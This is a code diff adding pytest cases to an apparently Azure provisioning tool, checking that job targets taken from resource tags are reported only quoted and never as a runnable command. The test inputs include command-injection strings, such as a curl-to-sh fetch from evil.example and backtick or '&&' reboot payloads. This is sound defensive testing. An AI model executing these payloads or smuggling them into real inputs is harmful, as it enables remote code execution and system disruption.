@@ -213,6 +213,21 @@ def test_a_vm_without_a_vm_id_is_not_resumed(fake_az, monkeypatch):
     assert "Azure reported no unique id for the resource to check it against" in out
 
 
+@pytest.mark.parametrize("target", ["$(curl${IFS}-s${IFS}evil.example|sh)", "`reboot`", "vm2&&reboot",
+                                    "-rf", "vm2\u2028x"])
+def test_a_tag_naming_a_job_on_a_name_no_resource_can_have_suggests_no_command(fake_az, target):
+    """The entry of another job was answered with the command that finishes it, the job's
+    target pasted in unquoted: a tag writer chose what an operator is told to run
+    (``accelnet-provision enable ... --vm $(curl ...|sh)``). A job whose target or size is
+    not a name Azure allows names no job this tool runs, and is reported only quoted."""
+    tag = f"start again; by accelnet-provision enable --vm {target}; {now():%Y-%m-%dT%H:%M:%SZ}; proof 0123456789abcdef"
+    fake_az.load(sibling_world(tag))
+    code, out, err = fake_az.provision(*ENABLE_VM1)
+    assert (code, err) == (0, "") and fake_az.changes() == []
+    assert "finishes" not in out and "it names no job this tool runs" in out
+    assert target not in out.replace(repr(tag), "").replace(repr("enable --vm " + target), "")  # only quoted
+
+
 # --- the journal values -------------------------------------------------------------------
 
 def test_the_longest_legal_names_fit_in_a_tag_value():
@@ -230,6 +245,7 @@ def test_the_longest_legal_names_fit_in_a_tag_value():
     ("resize --vm vm1 --size Standard_A4_v2", Job("resize", "vm", "vm1", "Standard_A4_v2")),
     ("enable --vm vm1 --size Standard_A4_v2", None),
     ("create --vm vm1", None), ("enable --nic n", None), ("enable", None), ("", None),
+    ("enable --vm $(reboot)", None), ("enable --vmss -x", None), ("resize --vm vm1 --size `x`", None),
 ])
 def test_job_text_round_trip(text, job):
     assert Job.parse(text) == job
